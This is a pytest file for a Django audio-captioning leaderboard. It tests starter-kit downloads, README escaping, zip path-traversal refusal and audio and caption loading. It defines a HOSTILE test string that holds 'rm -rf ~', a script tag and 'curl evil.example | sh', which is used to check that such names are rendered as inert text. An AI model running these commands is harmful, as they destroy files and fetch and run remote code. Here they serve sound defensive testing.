"""The kit of a phase: the same from page and command, harmless whatever its texts are."""

import ast
import io
import re
import subprocess
import sys
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pytest
import soundfile
from django.test import Client
from django.urls import reverse
from pytest_django.live_server_helper import LiveServer

from captions import InputUnusable, read_folder, read_split, read_table
from earmark.cli.parser import main
from earmark.client.command_line import Misused, RequestRefused
from earmark.client.commands import kit_unpack
from features import FeatureSettings, FeatureStore, load_audio, load_features
from leaderboard.models import Challenge, Phase
from leaderboard.starter.package import KIT, kit_packed, plain_markdown
from tests.factories import PhaseFactory
from tests.leaderboard.conftest import Cast
from tests.leaderboard.starter.conftest import RATE
from tests.real_data import ROOT

HOSTILE = (
    "Sounds | `rm -rf ~` <script>x</script>\n\n    curl evil.example | sh\n# {{ site }} [a](b)"
)


def unpacked(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {Path(name).name: archive.read(name).decode() for name in archive.namelist()}


def test_page_and_command_give_the_same_kit(
    transactional_db: None, live_server: LiveServer, tmp_path: Path
) -> None:
    phase = PhaseFactory.create()
    address = reverse("leaderboard:starter-kit", args=[phase.challenge.slug, phase.slug])
    page = Client().get(reverse("leaderboard:challenge", args=[phase.challenge.slug]))
    assert f'href="{address}"' in page.content.decode()
    downloaded = unpacked(Client().get(address).content)
    slug = f"{phase.challenge.slug}/{phase.slug}"
    asked = ["starter", "--server", live_server.url, "--phase", slug]
    assert main([*asked, "--out", str(tmp_path / "kit")]) == 0
    files = {path.name: path.read_text() for path in (tmp_path / "kit").iterdir()}
    assert files == downloaded
    assert {"README.md", "requirements.txt", "train.py", "predict.py"} < files.keys()
    # What was written since is not lost.
    assert main([*asked, "--out", str(tmp_path / "kit")]) == 2


def test_the_readme_is_the_phases(cast: Cast) -> None:
    phase = cast.phase
    Phase.objects.filter(pk=phase.pk).update(
        opens_at=datetime(2026, 3, 1, 12, tzinfo=UTC), quota_per_day=3, ranking_metric="fense"
    )
    phase.refresh_from_db()
    text = unpacked(kit_packed(phase))["README.md"]
    assert "2026-03-01 12:00 UTC" in text
    assert "3 a day" in text
    assert "`fense`" in text
    assert f"--phase {phase.challenge.slug}/{phase.slug}" in text
    assert not re.search(r"\{[{%]|[%}]\}", text)


def test_hostile_names_stay_text(cast: Cast) -> None:
    Challenge.objects.filter(pk=cast.phase.challenge_id).update(title=HOSTILE)
    Phase.objects.filter(pk=cast.phase.pk).update(name=HOSTILE[:80])
    phase = Phase.objects.select_related("challenge").get(pk=cast.phase.pk)
    text = unpacked(kit_packed(phase))["README.md"]
    first = text.splitlines()[0]
    assert first.startswith("# Starter kit: Sounds \\| \\`rm \\-rf \\~\\` \\<script\\>")
    assert "\\{\\{ site \\}\\}" in first
    assert not any("evil" in line for line in text.splitlines()[1:])
    # A control character or one that turns the writing round is no part of a line.
    assert plain_markdown("a\x1b[31m\u202eb") == "a \\[31m b"


@pytest.mark.parametrize("name", ["../train.py", "kit/../../train.py", "/kit/x.py", "kit/.bashrc"])
def test_no_site_puts_a_file_elsewhere(tmp_path: Path, name: str) -> None:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr(name, "x")
    with pytest.raises(RequestRefused, match="no starter kit has"):
        kit_unpack(data.getvalue(), tmp_path / "kit")
    assert not list(tmp_path.rglob("*.py"))
    with pytest.raises(RequestRefused, match="did not send"):
        kit_unpack(b"<html>", tmp_path / "kit")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "notes").write_text("mine")
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("kit/train.py", "x")
    with pytest.raises(Misused, match="not empty"):
        kit_unpack(data.getvalue(), tmp_path / "full")


def test_nothing_of_the_product_imports_the_kit() -> None:
    own = {path.stem for path in KIT.glob("*.py")}
    for package in ("earmark", "leaderboard", "annotation"):
        for path in (ROOT / package).rglob("*.py"):
            if path.parent == KIT:
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
                names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
                assert not own & set(names), path
                assert not any(name.startswith("leaderboard.starter.kit") for name in names), path


def test_the_kit_imports_nothing_of_the_site() -> None:
    """The site's modules need Django; a participant has the scorer alone."""
    code = (
        "import sys, pathlib; sys.path.insert(0, sys.argv[1]); import train, predict, compare;"
        "print(sorted({'django', 'leaderboard', 'annotation'} & set(sys.modules)))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(KIT)], cwd=ROOT, capture_output=True, text=True, check=True
    )
    assert done.stdout.strip() == "[]"


def test_clothos_layout(made: Path, tmp_path: Path) -> None:
    clips = read_split(made, "development")
    assert len(clips) == 8
    assert clips[0].captions == ("A low tone hums.", "A deep tone sounds.")
    # The names that Clotho's own files have.
    (tmp_path / "validation").symlink_to(made / "validation")
    (tmp_path / "clotho_captions_validation.csv").symlink_to(made / "captions_validation.csv")
    assert [clip.name for clip in read_split(tmp_path, "validation")] == [
        "validation 0.wav",
        "validation 1.wav",
    ]


def test_audiocaps_layout_has_a_row_for_each_caption_and_misses_clips(tmp_path: Path) -> None:
    (tmp_path / "test").mkdir()
    for name in ("Yab-c_30.wav", "xyz.flac"):
        soundfile.write(tmp_path / "test" / name, np.zeros(100), RATE)
    rows = ["1,ab-c,30,Rain falls", "2,ab-c,30,It rains", "3,xyz,0,A dog", "4,gone,0,Nothing"]
    table = "\n".join(["audiocap_id,youtube_id,start_time,caption", *rows])
    (tmp_path / "test.csv").write_text(table)
    clips = read_split(tmp_path, "evaluation")
    assert [(clip.name, clip.captions) for clip in clips] == [
        ("Yab-c_30.wav", ("Rain falls", "It rains")),
        ("xyz.flac", ("A dog",)),
    ]


def test_a_challenges_template_names_clips_without_captions(made: Path, tmp_path: Path) -> None:
    template = tmp_path / "open.csv"
    template.write_text("file_name,caption_predicted\nevaluation 1.wav,\nevaluation 0.wav,\n")
    clips = read_table(template, made / "evaluation")
    assert [clip.name for clip in clips] == ["evaluation 1.wav", "evaluation 0.wav"]
    assert [clip.captions for clip in clips] == [(), ()]
    assert [clip.name for clip in read_folder(made / "evaluation")] == [
        "evaluation 0.wav",
        "evaluation 1.wav",
    ]


@pytest.mark.parametrize(
    ("table", "told"),
    [
        ("file_name,caption\nnone.wav,x\n", "none.wav is missing"),
        ("name,caption\nnone.wav,x\n", "has the columns name, caption"),
        ("", "an empty file"),
        ("<html>\n<p>Log in, please</p>\n", "has the columns <html>"),
        ("file_name,caption_1,caption_2\nnone.wav,one, two, three\n", "none.wav is missing"),
        ("youtube_id,start_time,caption\nq,0,x\n", "none of the 1 clips"),
    ],
)
def test_what_is_missing_is_named(tmp_path: Path, table: str, told: str) -> None:
    (tmp_path / "table.csv").write_text(table)
    with pytest.raises(InputUnusable, match=told):
        read_table(tmp_path / "table.csv", tmp_path)
    with pytest.raises(InputUnusable, match=r"captions_development\.csv"):
        read_split(tmp_path, "development")


@pytest.mark.parametrize(
    ("rate", "ending", "subtype"),
    [
        *((rate, "wav", "PCM_24") for rate in (8000, 22_050, 44_100, 48_000, 96_000)),
        (44_100, "flac", None),
        (48_000, "ogg", None),
    ],
)
def test_any_rate_and_format_gives_the_same_sound(
    tmp_path: Path, rate: int, ending: str, subtype: str | None
) -> None:
    tone = 0.5 * np.sin(2 * np.pi * 440 * np.arange(rate) / rate)
    path = tmp_path / f"tone.{ending}"
    # Two channels whose mean is the tone.
    soundfile.write(path, np.stack((1.2 * tone, 0.8 * tone), axis=1), rate, subtype)
    samples = load_audio(path, 16_000)
    assert samples.shape == (16_000,)
    expected = 0.5 * np.sin(2 * np.pi * 440 * np.arange(16_000) / 16_000)
    assert np.abs(samples - expected)[1000:-1000].max() < 0.02


def test_features_are_computed_once_by_content(made: Path, tmp_path: Path) -> None:
    store = FeatureStore(tmp_path / "store", FeatureSettings(rate=16_000, pool=4))
    audio = made / "development" / "development 0.wav"
    stored = store.stored(audio)
    written = stored.stat().st_mtime_ns
    copy = tmp_path / "copy.wav"
    copy.write_bytes(audio.read_bytes())
    assert store.stored(copy) == stored
    assert stored.stat().st_mtime_ns == written
    assert load_features(stored).shape[1] == 64
    other = FeatureStore(tmp_path / "store", FeatureSettings(rate=16_000, pool=2))
    assert other.stored(audio) != stored


@pytest.mark.parametrize("content", [b"", b"no audio", None])
def test_audio_that_cannot_be_read_is_named(tmp_path: Path, content: bytes | None) -> None:
    path = tmp_path / "bad.wav"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(InputUnusable, match=r"bad\.wav"):
        FeatureStore(tmp_path / "store", FeatureSettings()).stored(path)
